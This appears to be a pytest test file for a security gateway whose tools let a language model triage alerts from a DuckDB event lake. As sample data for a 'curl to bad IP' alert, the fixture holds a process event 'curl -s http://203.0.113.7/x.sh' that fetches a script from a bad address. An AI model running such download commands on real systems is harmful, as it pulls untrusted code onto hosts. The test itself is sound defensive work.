"""The sentinel tools: listed at /v1/tools, and run by the gateway when a model calls them."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import duckdb
import httpx
import pytest

from sentinel.settings import Settings
from services.gateway.keys import KeyStore
from services.gateway.tools import TOOL_NAMES, ToolExecutor
from tests.services.gateway.fake_openai import FakeOpenAI
from tests.services.gateway.gatewaytest import Serve, bearer, chat, make_config, openai_upstream

Fake = tuple[FakeOpenAI, str]


def _call(call_id: str, name: str, **arguments: Any) -> dict[str, Any]:
    return {
        "id": call_id,
        "type": "function",
        "function": {"name": name, "arguments": json.dumps(arguments)},
    }


def _lake(root: Path) -> None:
    """A lake with the silver tables the tools read: one alert and a few events of h-000."""
    root.mkdir(parents=True, exist_ok=True)
    con = duckdb.connect(str(root / "lake.duckdb"))
    con.execute("CREATE SCHEMA silver")
    con.execute(
        "CREATE TABLE silver.silver_alerts AS SELECT 'a-1' AS alert_id, "
        "TIMESTAMPTZ '2026-12-03 08:00:00+00' AS ts, 'core.curl_to_bad_ip' AS rule_id, "
        "'1' AS rule_version, 'high' AS severity, 'curl to a known-bad address' AS title, "
        "'h-000' AS host_id, 1 AS event_count, ['T1105'] AS mitre, 'd' AS dedup_key, "
        "'core' AS pack, '1.0.0' AS pack_version"
    )
    common = "event_id VARCHAR, ts TIMESTAMPTZ, host_id VARCHAR"
    con.execute(
        f"CREATE TABLE silver.silver_proc_events ({common}, action VARCHAR, exe VARCHAR, "
        "cmdline VARCHAR)"
    )
    con.execute(
        f"CREATE TABLE silver.silver_file_events ({common}, action VARCHAR, path VARCHAR, "
        "new_path VARCHAR)"
    )
    con.execute(
        f"CREATE TABLE silver.silver_net_events ({common}, action VARCHAR, proto VARCHAR, "
        "src_ip VARCHAR, src_port INTEGER, dst_ip VARCHAR, dst_port INTEGER, exe VARCHAR)"
    )
    con.execute(
        f"CREATE TABLE silver.silver_dns_events ({common}, query VARCHAR, qtype VARCHAR, "
        "rcode VARCHAR)"
    )
    con.execute(
        f"CREATE TABLE silver.silver_auth_events ({common}, action VARCHAR, user_name VARCHAR, "
        "src_ip VARCHAR, method VARCHAR)"
    )
    con.execute(
        "INSERT INTO silver.silver_proc_events VALUES ('e1', '2026-12-03 07:59:58+00', 'h-000', "
        "'exec', '/usr/bin/curl', 'curl -s http://203.0.113.7/x.sh')"
    )
    con.execute(
        "INSERT INTO silver.silver_net_events VALUES ('e2', '2026-12-03 07:59:59+00', 'h-000', "
        "'connect', 'tcp', '10.0.0.5', 40000, '203.0.113.7', 80, '/usr/bin/curl')"
    )
    con.execute(
        "INSERT INTO silver.silver_dns_events VALUES ('e3', '2026-12-03 07:00:00+00', 'h-001', "
        "'example.org', 'A', 'NOERROR')"
    )
    con.close()


@pytest.fixture
def key(store: KeyStore) -> str:
    return store.create("triage")[1]


def _tools_config(url: str) -> Any:
    return make_config(
        [openai_upstream("llm", url)],
        {"llm": {"capabilities": {"tools": True}, "targets": [{"upstream": "llm", "model": "x"}]}},
        tools={"max_rounds": 2},
    )


def test_tool_list_has_the_three_triage_tools(serve: Serve, key: str, fake: Fake) -> None:
    with serve(_tools_config(fake[1])) as gw:
        listed = httpx.get(f"{gw.base_url}/v1/tools", headers=bearer(key)).json()
    names = [t["function"]["name"] for t in listed["data"]]
    assert names == ["get_alert_context", "lookup_enrichment", "host_timeline"]
    assert all(t["function"]["parameters"]["type"] == "object" for t in listed["data"])


def test_gateway_runs_the_tool_calls_and_returns_the_final_answer(
    serve: Serve, key: str, fake: Fake, gw_settings: Settings
) -> None:
    upstream, url = fake
    _lake(gw_settings.lake_root)
    upstream.replies.extend(
        [
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    _call("c1", "lookup_enrichment", indicator="203.0.113.7"),
                    _call("c2", "get_alert_context", alert_id="a-1"),
                ],
            },
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [_call("c3", "host_timeline", host_id="h-000", limit=5)],
            },
            {"role": "assistant", "content": '{"verdict": "true_positive"}'},
        ]
    )
    with serve(_tools_config(url)) as gw:
        answer = httpx.post(
            f"{gw.base_url}/v1/chat/completions",
            json=chat("llm", "triage alert a-1", sentinel_tools=True),
            headers=bearer(key),
        )
        metrics = httpx.get(f"{gw.base_url}/metrics").text
    assert answer.status_code == 200
    body = answer.json()
    assert body["choices"][0]["message"]["content"] == '{"verdict": "true_positive"}'
    assert body["usage"]["completion_tokens"] == 3 * 7  # summed over the three rounds
    assert len(upstream.calls) == 3
    offered = {t["function"]["name"] for t in upstream.calls[0]["body"]["tools"]}
    assert offered == TOOL_NAMES
    assert "sentinel_tools" not in upstream.calls[0]["body"]
    second = upstream.calls[1]["body"]["messages"]
    assert [m["role"] for m in second] == ["user", "assistant", "tool", "tool"]
    enrichment = json.loads(second[2]["content"])
    assert second[2]["tool_call_id"] == "c1"
    assert enrichment["found"] is True
    assert enrichment["record"]["reputation"] == "malicious"
    alert = json.loads(second[3]["content"])
    assert alert["alert"]["rule_id"] == "core.curl_to_bad_ip"
    assert alert["host"]["name"] == "web-1"
    timeline = json.loads(upstream.calls[2]["body"]["messages"][-1]["content"])
    assert [e["event_id"] for e in timeline["events"]] == ["e2", "e1"]
    assert timeline["events"][1]["what"] == "exec /usr/bin/curl curl -s http://203.0.113.7/x.sh"
    assert 'gateway_tool_calls_total{outcome="ok",tool="host_timeline"} 1.0' in metrics


def test_tool_rounds_are_bounded(serve: Serve, key: str, fake: Fake) -> None:
    upstream, url = fake
    for i in range(5):
        upstream.replies.append(
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [_call(f"c{i}", "lookup_enrichment", indicator="h-000")],
            }
        )
    with serve(_tools_config(url)) as gw:
        answer = httpx.post(
            f"{gw.base_url}/v1/chat/completions",
            json=chat("llm", sentinel_tools=True),
            headers=bearer(key),
        )
    assert len(upstream.calls) == 3  # max_rounds 2: two rounds answered, then the last reply
    assert answer.json()["choices"][0]["message"]["tool_calls"][0]["id"] == "c2"


def test_sentinel_tools_need_a_model_with_the_tools_capability(
    serve: Serve, key: str, fake: Fake
) -> None:
    with serve(_tools_config(fake[1])) as gw:
        answer = httpx.post(
            f"{gw.base_url}/v1/chat/completions",
            json=chat("extractive-triage", sentinel_tools=True),
            headers=bearer(key),
        )
    assert answer.status_code == 400
    assert answer.json()["error"]["code"] == "tools_not_supported"


def test_tool_problems_are_results_the_model_can_read(gw_settings: Settings) -> None:
    tools = ToolExecutor(gw_settings)

    def run(name: str, arguments: str) -> dict[str, Any]:
        return asyncio.run(tools.run(name, arguments))

    no_lake = run("host_timeline", '{"host_id": "h-000"}')
    assert no_lake["error"].startswith(f"no lake at {gw_settings.lake_root / 'lake.duckdb'}")
    _lake(gw_settings.lake_root)
    assert run("get_alert_context", '{"alert_id": "nope"}')["found"] is False
    assert run("lookup_enrichment", '{"indicator": "evil.example"}')["kind"] == "domain"
    assert "required" in run("host_timeline", "{}")["error"]
    assert "not JSON" in run("host_timeline", "{oops")["error"]
    assert "unknown tool" in run("rm_rf", "{}")["error"]
